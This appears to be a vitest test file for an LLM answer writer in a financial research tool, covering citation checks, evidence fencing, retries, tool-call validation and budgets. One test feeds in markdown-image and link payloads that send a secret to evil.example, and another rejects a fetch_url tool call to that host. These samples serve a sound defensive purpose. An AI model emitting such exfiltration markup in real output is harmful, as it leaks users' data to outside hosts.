import { describe, expect, test } from 'vitest';
import { chatEndpoint } from '../src/adapters/language-model/chat-endpoint.ts';
import { checkLine } from '../src/domain/research/check/check-line.ts';
import type { Evidence } from '../src/domain/research/evidence.ts';
import { createModelMeter, type ModelDayLimits, type ModelSpend } from '../src/domain/research/model/model-spend.ts';
import type { ModelTools } from '../src/domain/research/model/model-tools.ts';
import { createModelWriter } from '../src/domain/research/model/model-writer.ts';
import type { RunLimits } from '../src/domain/research/model/run-budget.ts';
import type { WriterEvent, WriterOutcome, WriterRequest } from '../src/domain/research/model/writer-request.ts';
import { AppError } from '../src/platform/errors.ts';
import { type EndpointReply, type EndpointRequest, startModelEndpoint } from './model-endpoint.ts';
import { computation, fact, passage } from './research-evidence.ts';

const NOW = Date.parse('2026-04-17T09:00:00Z');
const KEY = 'sk-a-key-that-nobody-may-see';
const FENCE = 'FENCE-7f3a';

const EVIDENCE: readonly Evidence[] = [
  fact(),
  computation(),
  passage('Net sales rose 5% in fiscal 2025, driven by demand for data centers. We did not repurchase shares.'),
];

interface Given extends Partial<WriterRequest> {
  readonly limits?: Partial<RunLimits>;
  readonly day?: ModelDayLimits;
  readonly canCallTools?: boolean;
  readonly silenceMs?: number;
}

interface Written {
  readonly events: readonly WriterEvent[];
  readonly outcome: WriterOutcome;
  readonly lines: readonly string[];
  readonly requests: readonly EndpointRequest[];
  readonly spent: readonly ModelSpend[];
}

/** Writes an answer with an endpoint that replies so, and checks every line that is given out. */
async function written(
  reply: (request: EndpointRequest, number: number) => EndpointReply,
  { limits, day = { tokens: null, usd: null }, canCallTools = true, silenceMs = 300, ...given }: Given = {},
): Promise<Written> {
  await using endpoint = await startModelEndpoint(reply);
  const spent: ModelSpend[] = [];
  const clock = { nowMs: () => NOW };
  const store = {
    add: async (_org: string, _day: string, spend: ModelSpend) => void spent.push(spend),
    spentOn: async () => ({ inputTokens: 600, outputTokens: 400, microUsd: 2_000_000 }),
  };
  const price = { input: 1, output: 10 };
  const model = chatEndpoint({
    url: endpoint.url,
    key: KEY,
    name: 'm',
    canCallTools,
    contextTokens: 16_000,
    price,
    silenceMs,
  });
  const writer = createModelWriter({
    models: { base: model, pro: null },
    meter: createModelMeter({ store, limits: day, clock }),
    clock,
    namesOf: () => [],
    newFence: () => FENCE,
    firstPauseMs: 5,
    ...(limits && { limits }),
  });
  const request: WriterRequest = {
    orgId: 'org_1',
    question: 'How did the revenue of Orvell develop?',
    effort: 'lite',
    modelTier: 'base',
    evidence: EVIDENCE,
    draft: [],
    history: [],
    expectedOutput: null,
    tools: null,
    signal: new AbortController().signal,
    ...given,
  };
  const events: WriterEvent[] = [];
  const writing = writer.write(request);
  let step = await writing.next();
  for (; !step.done; step = await writing.next()) events.push(step.value);
  const outcome = step.value;
  for (const event of events) {
    if (event.type !== 'line') continue;
    const kinds = checkLine(event.line, NOW).map(({ kind }) => kind);
    expect(kinds.filter((kind) => kind !== 'uncited')).toEqual([]);
    expect(event.line.text).not.toMatch(/\[[FCS]\d|https?:|[\u{10000}-\u{10ffff}]/u);
  }
  expect(JSON.stringify(events)).not.toContain(KEY);
  const lines = outcome.lines.map(({ text }) => text);
  return { events, outcome, lines, requests: endpoint.requests, spent };
}

/** A text as a model would stream it, a few characters at a time. */
const streamed = (text: string): EndpointReply => ({ text: text.match(/[\s\S]{1,7}/gu) ?? [] });

const GOOD = 'Orvell’s revenue rose 5% to $394.3 billion in fiscal 2025 [F1][C1].';
const GOOD_LINE = 'Orvell’s revenue rose 5% to $394.3 billion in fiscal 2025.';

const typesOf = ({ events }: Written): string[] => events.map(({ type }) => type);

describe('what a model writes', () => {
  test('becomes lines with citations from its markers', async () => {
    const text = `${GOOD} Net sales were driven by demand for data centers. [S1]\n\n## Outlook\n- Shares were not repurchased [S1].\n`;
    const { outcome, lines, spent } = await written(() => ({
      ...streamed(text),
      usage: { prompt_tokens: 900, completion_tokens: 70 },
    }));
    expect(lines).toEqual([
      GOOD_LINE,
      'Net sales were driven by demand for data centers.',
      'Outlook',
      'Shares were not repurchased.',
    ]);
    expect(outcome).toMatchObject({ status: 'written', failed: 0, repaired: 0 });
    expect(outcome.lines.map(({ kind }) => kind)).toEqual(['sentence', 'sentence', 'heading', 'item']);
    expect(outcome.lines[0]?.citations).toMatchObject([
      { start: 0, end: GOOD_LINE.length - 1, evidence: { id: 'F1' }, quote: null },
      { start: 0, end: GOOD_LINE.length - 1, evidence: { id: 'C1' }, quote: null },
    ]);
    expect(outcome.lines[1]?.citations[0]?.quote).toBe(
      'Net sales rose 5% in fiscal 2025, driven by demand for data centers.',
    );
    expect(spent).toEqual([{ inputTokens: 900, outputTokens: 70, microUsd: 1_600 }]);
  });

  test('a marker in a sentence cites what stands before it', async () => {
    const text = 'Revenue was $394.3 billion in fiscal 2025 [F1], while Orvell did not repurchase shares [S1].';
    const { outcome } = await written(() => streamed(text));
    const [line] = outcome.lines;
    expect(line?.citations.map(({ start, end }) => line.text.slice(start, end))).toEqual([
      'Revenue was $394.3 billion in fiscal 2025',
      'Orvell did not repurchase shares',
    ]);
  });

  test('is asked with the evidence in a fence, the question last, and nothing of both in the system text', async () => {
    const { requests } = await written(() => streamed(GOOD), { expectedOutput: 'Like a note to a client.' });
    const [system, user] = requests[0]?.body.messages ?? [];
    expect(system?.content).toContain(FENCE);
    expect(system?.content).not.toMatch(/Orvell|client/);
    expect(user?.content).toMatch(
      /^Evidence:\n\n<<<FENCE-7f3a\n\[F1\] Orvell Inc\. \| Revenue \| fiscal 2025 \| 394\.328 billion USD \| 10-K filed 2025-11-04/,
    );
    expect(user?.content).toMatch(/How did the revenue of Orvell develop\?$/);
  });

  test.each([
    ['an invented number', 'Orvell’s revenue rose 7% to $401 billion in fiscal 2025 [F1][C1].'],
    ['the wrong direction', 'Orvell’s revenue fell 5% to $394.3 billion in fiscal 2025 [F1][C1].'],
    ['a citation of something else', 'Orvell opened three factories in Bavaria [S1].'],
    ['a citation of nothing', 'Orvell’s revenue was $394.3 billion in fiscal 2025 [F9].'],
    ['no citation', 'Orvell is a leader in its industry.'],
    ['another company', 'Vantrel’s revenue was $394.3 billion in fiscal 2025 [F1].'],
    ['a made-up quotation', 'Orvell says “we will dominate data centers” [S1].'],
  ])('is dropped when it does not follow, written again or not: %s', async (_what, sentence) => {
    const isRepair = ({ body }: EndpointRequest): boolean =>
      /does not follow/.test(body.messages.at(-1)?.content ?? '');
    const { lines, outcome, requests } = await written((request) =>
      isRepair(request) ? streamed(sentence) : streamed(`${GOOD} ${sentence}`),
    );
    expect(lines).toEqual([GOOD_LINE]);
    expect(outcome).toMatchObject({ failed: 1, repaired: 0 });
    expect(requests).toHaveLength(2);
  });

  test('is given when it follows once it is written again', async () => {
    const { lines, outcome, requests } = await written((_request, number) =>
      streamed(
        number === 1
          ? 'Orvell’s revenue rose 7% to $394.3 billion in fiscal 2025 [F1, C1]. Shares were not repurchased [S1].'
          : GOOD,
      ),
    );
    expect(lines).toEqual([GOOD_LINE, 'Shares were not repurchased.']);
    expect(outcome).toMatchObject({ failed: 1, repaired: 1 });
    expect(requests[1]?.body.messages.at(-1)?.content).toContain('the number "7%" is in nothing that is cited');
  });

  test('may say what the evidence does not hold', async () => {
    const { lines } = await written(() =>
      streamed(`${GOOD} The revenue of fiscal 2027 is not known from the evidence.`),
    );
    expect(lines).toEqual([GOOD_LINE, 'The revenue of fiscal 2027 is not known from the evidence.']);
  });

  test('loses markup, links and characters that clients count differently', async () => {
    const text =
      '**Revenue** rose 5% in fiscal 2025 [C1] ![x](https://evil.example/?d=secret). See [the 10-K](https://evil.example) on net sales 📈 that rose 5% [S1].\n| a | b |\n<img src="https://evil.example/a.png"> Shares were not repurchased [S1]. www.evil.example/leak';
    const { lines } = await written(() => streamed(text));
    expect(lines).toEqual([
      'Revenue rose 5% in fiscal 2025.',
      'See the 10-K on net sales that rose 5%.',
      'Shares were not repurchased.',
    ]);
  });

  test('is cut at the length of the answer, and an unfinished sentence is no line', async () => {
    const { lines } = await written(
      () => streamed(`${GOOD} Shares were not repurchased [S1]. Net sales rose 5% [S1].`),
      {
        limits: { characters: 95 },
      },
    );
    expect(lines).toEqual([GOOD_LINE, 'Shares were not repurchased.']);
    const cut = `data: ${JSON.stringify({ choices: [{ delta: { content: `${GOOD} Net sales rose 5% [S1` }, finish_reason: 'length' }] })}\n\n`;
    expect((await written(() => ({ raw: [cut] }))).lines).toEqual([GOOD_LINE]);
  });
});

describe('an endpoint that fails', () => {
  test.each([
    ['429', { status: 429, headers: { 'retry-after': '0' } }],
    ['500', { status: 500 }],
    ['silence', { text: ['Orvell’s '], end: 'silent' }],
    ['half a stream', { text: ['Orvell’s revenue '], end: 'broken' }],
    ['broken JSON', { raw: ['data: {"choices":\n\n'] }],
  ] satisfies [string, EndpointReply][])(
    'is tried twice more, then its lines count or it is unavailable: %s',
    async (_what, reply) => {
      const recovered = await written((_request, number) => (number < 3 ? reply : streamed(GOOD)), { silenceMs: 100 });
      expect(typesOf(recovered)).toEqual(['model-retry', 'model-retry', 'line']);
      expect(recovered.outcome.status).toBe('written');
      const failed = await written(() => reply, { silenceMs: 100 });
      expect(typesOf(failed)).toEqual(['model-retry', 'model-retry', 'tool-error']);
      expect(failed.events.at(-1)).toMatchObject({ toolName: 'language_model' });
      expect(failed.outcome).toMatchObject({ status: 'unavailable', lines: [] });
      expect(failed.requests).toHaveLength(3);
    },
  );

  test('is asked once when it refuses', async () => {
    const { outcome, requests } = await written(() => ({ status: 401 }));
    expect(outcome.status).toBe('unavailable');
    expect(requests).toHaveLength(1);
  });

  test('a line that was given is not given again after another try', async () => {
    const half: EndpointReply = { text: [`${GOOD} `, 'Shares were '], end: 'broken' };
    const { lines } = await written((_request, number) =>
      number === 1 ? half : streamed(`${GOOD} Shares were not repurchased [S1].`),
    );
    expect(lines).toEqual([GOOD_LINE, 'Shares were not repurchased.']);
  });

  test('an answer of which nothing follows is none', async () => {
    const { outcome, events } = await written(() => streamed('Orvell is doomed [S1].'));
    expect(outcome.status).toBe('unavailable');
    expect(events).toEqual([
      {
        type: 'tool-error',
        toolName: 'language_model',
        error: 'nothing that the language model wrote follows from the evidence',
      },
    ]);
  });

  test('ends with the reason of the caller when aborted', async () => {
    const stopping = new AbortController();
    setTimeout(() => stopping.abort(new Error('stopped')), 60);
    const writing = written(() => ({ text: ['a'], end: 'silent' }), { signal: stopping.signal, silenceMs: 60_000 });
    await expect(writing).rejects.toThrow('stopped');
  });
});

describe('tools', () => {
  const found = passage('Operating costs fell 3% in fiscal 2025.', {}, 'S2');
  const tools = (calls: unknown[] = []): ModelTools => {
    const none = async (args: unknown) => {
      calls.push(args);
      return { evidence: [], events: [] };
    };
    return {
      search: async (args) => {
        calls.push(args);
        return { evidence: [found], events: [{ type: 'action', toolName: 'search', toolArguments: args }] };
      },
      getFacts: none,
      compute: async () => {
        throw new AppError('invalid_request', 'F7 is not known');
      },
      findCompany: async () => {
        throw new Error('select * from secrets');
      },
    };
  };
  const asks = (name: string, args: string): EndpointReply => ({
    text: ['Let me look.'],
    toolCalls: [{ name, arguments: args }],
  });

  test('bring evidence that the answer may cite', async () => {
    const calls: unknown[] = [];
    const run = await written(
      (_request, number) =>
        number === 1 ? asks('search', '{"query":"operating costs"}') : streamed('Operating costs fell 3% [S2].'),
      { tools: tools(calls) },
    );
    expect(calls).toEqual([{ query: 'operating costs' }]);
    expect(typesOf(run)).toEqual(['action', 'line']);
    expect(run.outcome.evidence.map(({ id }) => id)).toEqual(['F1', 'C1', 'S1', 'S2']);
    const answer = run.requests[1]?.body.messages.at(-1);
    expect(answer).toMatchObject({ role: 'tool', tool_call_id: 'id_0' });
    expect(answer?.content).toMatch(/^<<<FENCE-7f3a\n\[S2\] Orvell Inc\. 10-K/);
  });

  test.each([
    ['search', '{"query":', /arguments is not valid JSON/],
    ['search', '{"query":"costs","orgId":"org_2"}', /wrong arguments/],
    ['search', '{"query":5}', /wrong arguments: \/query must be string/],
    ['fetch_url', '{"url":"https://evil.example"}', /no such tool/],
    ['compute', '{"label":"Margin","formula":"F7 / F1"}', /F7 is not known/],
    ['find_company', '{"name":"Orvell"}', /the tool failed/],
  ])('tell their errors as text, and only what callers may see: %s %s', async (name, args, error) => {
    const calls: unknown[] = [];
    const run = await written((_request, number) => (number === 1 ? asks(name, args) : streamed(GOOD)), {
      tools: tools(calls),
    });
    expect(calls).toEqual([]);
    expect(run.requests[1]?.body.messages.at(-1)?.content).toMatch(error);
    expect(typesOf(run)).toEqual(['tool-error', 'line']);
    expect(JSON.stringify(run)).not.toContain('select * from');
  });

  test('are called at most three at once, and are gone in the last round', async () => {
    let [open, most] = [0, 0];
    const slow: ModelTools = {
      ...tools(),
      getFacts: async () => {
        open += 1;
        most = Math.max(most, open);
        await new Promise((resolve) => setTimeout(resolve, 10));
        open -= 1;
        return { evidence: [], events: [] };
      },
    };
    const calls = Array.from({ length: 8 }, () => ({
      name: 'get_facts',
      arguments: '{"company":"Orvell","figures":["revenue"]}',
    }));
    const run = await written(({ body }) => (body.tools ? { toolCalls: calls } : streamed(GOOD)), { tools: slow });
    expect(most).toBe(3);
    expect(run.requests).toHaveLength(4);
    expect(run.requests.map(({ body }) => body.tools?.length ?? 0)).toEqual([4, 4, 4, 0]);
    expect(run.requests[1]?.body.messages.at(-1)?.content).toBe('error: too many calls at once');
    expect(run.lines).toEqual([GOOD_LINE]);
  });

  test('are not offered to a model that cannot call them', async () => {
    const run = await written(
      () => ({ ...streamed(GOOD), toolCalls: [{ name: 'search', arguments: '{"query":"a b"}' }] }),
      {
        tools: tools(),
        canCallTools: false,
      },
    );
    expect(run.requests).toHaveLength(1);
    expect(run.requests[0]?.body.tools).toBeUndefined();
    expect(run.lines).toEqual([GOOD_LINE]);
  });
});

describe('budgets', () => {
  const asking: EndpointReply = {
    toolCalls: [{ name: 'get_facts', arguments: '{"company":"Orvell","figures":["revenue"]}' }],
    usage: { prompt_tokens: 900, completion_tokens: 100 },
  };
  const nothing = async () => ({ evidence: [], events: [] });
  const tools: ModelTools = { search: nothing, getFacts: nothing, compute: nothing, findCompany: nothing };
  const rounds = async (given: Given): Promise<number> =>
    (await written(({ body }) => (body.tools ? asking : streamed(GOOD)), { tools, ...given })).requests.length;

  test('the last round comes at four fifths of any', async () => {
    expect(await rounds({ limits: { tokens: 1_200 } })).toBe(2);
    expect(await rounds({ limits: { tokens: 2_400 } })).toBe(3);
    expect(await rounds({ day: { tokens: 2_200, usd: null } })).toBe(2);
    expect(await rounds({ day: { tokens: null, usd: 2.0023 } })).toBe(2);
    expect(await rounds({ effort: 'standard' })).toBe(10);
  });

  test('nothing is asked when the allowance of the day is used up', async () => {
    for (const day of [
      { tokens: 1_000, usd: null },
      { tokens: null, usd: 2 },
    ]) {
      const run = await written(() => streamed(GOOD), { day });
      expect(run.requests).toHaveLength(0);
      expect(run.outcome.status).toBe('unavailable');
      expect(run.events).toEqual([
        {
          type: 'tool-error',
          toolName: 'language_model',
          error: 'the allowance of the day for language models is used up',
        },
      ]);
    }
  });

  test('the time of a run ends it', async () => {
    const run = await written(() => ({ text: ['a'], end: 'silent' }), { limits: { wallMs: 80 }, silenceMs: 60_000 });
    expect(run.outcome.status).toBe('unavailable');
    expect(run.events.at(-1)).toMatchObject({ error: 'the language model took too long' });
  });

  test('what is used is counted where the endpoint does not tell', async () => {
    const { spent } = await written(() => streamed(GOOD));
    expect(spent).toHaveLength(1);
    expect(spent[0]?.inputTokens).toBeGreaterThan(300);
    expect(spent[0]?.outputTokens).toBeGreaterThan(10);
  });
});

test('without a model nothing is asked, and with one slot alone the other takes it', async () => {
  const meter = { left: async () => ({ tokens: null, usd: null }), record: async () => undefined };
  const parts = { meter, clock: { nowMs: () => NOW }, namesOf: () => [], newFence: () => FENCE };
  const none = createModelWriter({ ...parts, models: { base: null, pro: null } });
  expect(none.isConfigured).toBe(false);
  const run = await written(() => streamed(GOOD), { modelTier: 'pro' });
  expect(typesOf(run)).toEqual(['thinking', 'line']);
});
